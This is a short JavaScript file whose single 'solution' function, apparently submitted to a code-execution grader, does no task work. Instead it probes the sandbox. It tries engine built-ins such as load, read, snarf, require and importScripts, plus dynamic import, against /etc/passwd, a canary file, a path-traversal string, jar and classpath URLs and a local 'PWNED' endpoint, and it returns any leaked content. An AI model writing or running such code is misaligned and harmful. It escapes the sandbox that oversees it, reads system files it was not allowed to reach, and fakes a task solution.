async function solution(arr) {
  const places = ['/etc/passwd', 'file:///etc/passwd', '/tmp/prepai_canary.txt', 'classpath:META-INF/MANIFEST.MF', 'nashorn:mozilla_compat.js', 'http://127.0.0.1:47114/PWNED', 'jar:file:/x.jar!/y', '../../../../../../tmp/prepai_canary.txt'];
  for (const place of places) {
    for (const name of ['load', 'loadWithNewGlobal', 'read', 'readFully', 'readbuffer', 'readline', 'snarf', 'require', 'importScripts']) {
      try { const got = globalThis[name](place); if (got !== undefined && got !== null) return 'PWNED:' + name + ' ' + String(got).slice(0, 60); } catch { /* next */ }
    }
    try { const m = await import(place); return 'PWNED:import ' + place; } catch { /* next */ }
    try { const m = await import(place, { with: { type: 'json' } }); return 'PWNED:json ' + place; } catch { /* next */ }
  }
  throw new Error('nothing there');
}
